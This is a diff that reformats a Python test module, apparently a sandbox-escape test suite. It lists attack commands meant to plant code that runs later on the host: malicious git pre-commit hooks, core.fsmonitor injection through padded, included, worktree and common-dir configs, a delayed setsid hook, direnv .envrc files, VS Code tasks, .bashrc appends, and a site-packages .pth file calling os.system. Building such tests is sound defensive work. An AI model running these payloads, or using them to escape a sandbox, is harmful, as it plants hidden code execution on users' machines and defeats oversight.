@@ -42,16 +42,25 @@ def _path_fires(scene: Scene) -> bool:
     return scene.host.fires("git --version")
 
 
-def _has(name: str):  # noqa: ANN202
+def _has(name: str):
     return lambda scene: (WORK / name).exists()
 
 
 _HOOK = "mkdir -p .git/hooks; cp evil .git/hooks/pre-commit"
 _CONFIG = "git config core.fsmonitor " + _MONITOR
 _NEW = _EVIL + "git init -q . ; "
-_PADDED = "git init -q .; python3 -c \"print('# x\\n' * 20000)\" >> .git/config; printf '[core]\\n\\tfsmonitor = %s\\n' '" + _MONITOR + "' >> .git/config"
+_PADDED = (
+    "git init -q .; python3 -c \"print('# x\\n' * 20000)\" >> .git/config; printf '[core]\\n\\tfsmonitor = %s\\n' '"
+    + _MONITOR
+    + "' >> .git/config"
+)
 _ONE_LINE = "git init -q .; printf '[core]fsmonitor = %s #]\\n' '" + _MONITOR + "' >> .git/config"
-_INCLUDE = _EVIL + "git init -q .; printf '[core]\\n\\tfsmonitor = %s\\n' '" + _MONITOR + "' > more; printf '[include]\\n\\tpath = ../more\\n' >> .git/config"
+_INCLUDE = (
+    _EVIL
+    + "git init -q .; printf '[core]\\n\\tfsmonitor = %s\\n' '"
+    + _MONITOR
+    + "' > more; printf '[include]\\n\\tpath = ../more\\n' >> .git/config"
+)
 _COMMON = (
     "git init -q --bare other && git -C other config core.fsmonitor " + _MONITOR
     + " && git -C other config core.bare false; mkdir -p .git; [ -e .git/HEAD ] || git init -q .; echo ../other > .git/commondir"
@@ -63,11 +72,20 @@ _BARE = (
 _NESTED = "git init -q sub; git -C sub config core.fsmonitor " + _MONITOR
 _LATE = _EVIL + "git init -q .; (setsid sh -c 'sleep 0.7; mkdir -p .git/hooks; cp evil .git/hooks/pre-commit' >/dev/null 2>&1 &)"
 _ALL_NAMES = "for n in $(seq 999); do echo > envrc.set-aside-$n; done; echo '" + _FIRE + "' > .envrc"
-_WORKTREE = "git init -q .; git config extensions.worktreeConfig true; printf '[core]\\n\\tfsmonitor = %s\\n' '" + _MONITOR + "' > .git/config.worktree"
+_WORKTREE = (
+    "git init -q .; git config extensions.worktreeConfig true; printf '[core]\\n\\tfsmonitor = %s\\n' '"
+    + _MONITOR
+    + "' > .git/config.worktree"
+)
 
 ATTACKS = (
     Attack(name="a hook in the owner's repository", command=_EVIL + _HOOK, judge=_git_fires, prepare=_repository),
-    Attack(name="another repository in its place", command=_EVIL + "mv .git old; git init -q .; " + _HOOK, judge=_git_fires, prepare=_repository),
+    Attack(
+        name="another repository in its place",
+        command=_EVIL + "mv .git old; git init -q .; " + _HOOK,
+        judge=_git_fires,
+        prepare=_repository,
+    ),
     Attack(name="settings of the owner's repository", command=_CONFIG, judge=_git_fires, prepare=_repository),
     Attack(name="its common directory", command=_COMMON, judge=_git_fires, prepare=_repository),
     Attack(name="a hook where there was no directory for them", command=_EVIL + _HOOK, judge=_git_fires, prepare=_repository_without_hooks),
@@ -78,16 +96,29 @@ ATTACKS = (
     Attack(name="settings that include others", command=_INCLUDE, judge=_git_fires, prepare=_empty),
     Attack(name="settings of a work tree", command=_WORKTREE, judge=_git_fires, prepare=_empty),
     Attack(name="a new repository with another's directory", command=_COMMON, judge=_git_fires, prepare=_empty),
-    Attack(name="a file that names the repository", command=_NESTED + "; mv sub/.git other; echo 'gitdir: other' > .git", judge=_git_fires, prepare=_empty),
+    Attack(
+        name="a file that names the repository",
+        command=_NESTED + "; mv sub/.git other; echo 'gitdir: other' > .git",
+        judge=_git_fires,
+        prepare=_empty,
+    ),
     Attack(name="a bare repository lying about", command=_BARE, judge=_git_fires, prepare=_empty),
     Attack(name="a repository below", command=_NESTED, judge=_nested_fires, prepare=_empty),
     Attack(name="a hook after the command's end", command=_LATE, judge=_git_fires, prepare=_empty, settle_s=2.0),
     Attack(name="direnv", command="echo '" + _FIRE + "' > .envrc", judge=_has(".envrc"), prepare=_empty),
     Attack(name="direnv, with all other names taken", command=_ALL_NAMES, judge=_has(".envrc"), prepare=_empty),
-    Attack(name="direnv, in a closed directory", command="echo '" + _FIRE + "' > .envrc; chmod 555 .", judge=_has(".envrc"), prepare=_empty),
-    Attack(name="an editor's tasks", command="mkdir .vscode; echo '{}' > .vscode/tasks.json", judge=_has(".vscode/tasks.json"), prepare=_empty),
+    Attack(
+        name="direnv, in a closed directory", command="echo '" + _FIRE + "' > .envrc; chmod 555 .", judge=_has(".envrc"), prepare=_empty
+    ),
+    Attack(
+        name="an editor's tasks", command="mkdir .vscode; echo '{}' > .vscode/tasks.json", judge=_has(".vscode/tasks.json"), prepare=_empty
+    ),
     Attack(name="start-up file of a shell", command="echo '" + _FIRE + "' >> .bashrc", judge=_has(".bashrc"), prepare=_empty),
-    Attack(name="the owner's start-up file", command="echo '" + _FIRE + "' >> @{home}/.bashrc", judge=lambda scene: scene.host.fires("bash -ic :")),
+    Attack(
+        name="the owner's start-up file",
+        command="echo '" + _FIRE + "' >> @{home}/.bashrc",
+        judge=lambda scene: scene.host.fires("bash -ic :"),
+    ),
     Attack(
         name="Python's start-up",
         command="mkdir -p @{site} && echo 'import os; os.system(\"" + _FIRE + "\")' > @{site}/x.pth",
